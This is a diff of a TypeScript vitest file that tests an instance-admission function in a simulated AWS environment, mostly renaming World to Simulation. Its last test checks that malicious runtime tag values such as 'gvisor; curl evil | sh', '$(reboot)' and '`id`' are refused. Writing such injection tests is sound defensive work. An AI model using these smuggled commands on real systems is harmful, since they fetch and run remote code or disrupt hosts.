@@ -1,7 +1,7 @@
 import { randomBytes } from 'node:crypto';
 import { describe, expect, it } from 'vitest';
 import { ModelledMachine } from '../../packages/lab/machines.ts';
-import type { World } from '../../packages/lab/simulation.ts';
+import type { Simulation } from '../../packages/lab/simulation.ts';
 import { AwsError } from '../../packages/local-aws/aws.ts';
 import { VirtualClock } from '../../packages/local-aws/clock.ts';
 import {
@@ -13,12 +13,12 @@ import {
   nodeOf,
   pass,
   settle,
-  startWorld,
+  startSimulation,
   taintsOf,
 } from './scenario.ts';
 
 /** Invokes admit with one batch, as a poller does. */
-async function admit(world: World, Records: readonly object[]): Promise<{ batchItemFailures: unknown[] }> {
+async function admit(world: Simulation, Records: readonly object[]): Promise<{ batchItemFailures: unknown[] }> {
   const invocation = world.cloud.lambda.invoke(
     functionName(world, 'Admission'),
     JSON.stringify({ Records }),
@@ -37,7 +37,7 @@ async function admit(world: World, Records: readonly object[]): Promise<{ batchI
 
 describe('events that are not ours', () => {
   it('cost one look-up a batch, are no error, and do not keep ours from going on', async () => {
-    const world = await startWorld();
+    const world = await startSimulation();
     const ours = await Promise.all([launch(world), launch(world)]);
     const { ec2 } = world.services;
     const untagged = Array.from({ length: 12 }, () => ec2.launch({ tags: { Name: 'web' } }));
@@ -64,7 +64,7 @@ describe('events that are not ours', () => {
   });
 
   it('of an instance that EC2 does not show yet are looked at again, and forgotten after two minutes', async () => {
-    const world = await startWorld();
+    const world = await startSimulation();
     const id = `i-0${randomBytes(8).toString('hex')}`;
     const at = new Date(world.clock.now()).toISOString();
     expect(await admit(world, [launchRecord(id, at)])).toEqual({ batchItemFailures: [{ itemIdentifier: id }] });
@@ -75,7 +75,7 @@ describe('events that are not ours', () => {
 
 describe('a batch of nodes', () => {
   it('installs the others where one was terminated and one lost its tag', async () => {
-    const world = await startWorld();
+    const world = await startSimulation();
     const nodes = await Promise.all(Array.from({ length: 5 }, () => launch(world)));
     const [gone, bare, ...others] = nodes;
     await pass(world, 20_000);
@@ -93,7 +93,7 @@ describe('a batch with one node that SSM refuses', () => {
   it.each(['UnsupportedPlatformType', 'InvalidParameters'])(
     'as %s: installs the others, and that one ends with what SSM says',
     async (code) => {
-      const world = await startWorld([], async () => new ModelledMachine());
+      const world = await startSimulation([], async () => new ModelledMachine());
       const [refused, ...others] = await Promise.all(Array.from({ length: 4 }, () => launch(world)));
       const id = refused?.instanceId ?? '';
       world.cloud.faults = {
@@ -116,7 +116,7 @@ describe('a tag', () => {
   it.each(['gvisr', 'gvisor@1', 'gvisor; curl evil | sh', 'gvisor@$(reboot)', '`id`'])(
     'that asks for %j is refused before anything reaches the node, and the gate stays',
     async (tag) => {
-      const world = await startWorld();
+      const world = await startSimulation();
       const node = await launch(world, { tags: { 'airlock:runtime': tag } });
       await settle(world);
 
